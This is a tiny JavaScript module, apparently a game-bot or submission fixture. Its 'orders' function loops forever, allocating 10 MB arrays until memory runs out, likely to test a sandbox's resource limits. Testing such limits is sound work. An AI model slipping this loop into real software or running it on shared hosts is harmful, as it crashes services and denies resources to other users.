const eaten = [];

module.exports = {
  orders(state) {
    for (;;) {
      eaten.push(new Uint8Array(10_000_000).fill(1));
    }
  },

  builds() {
    return [];
  },
};
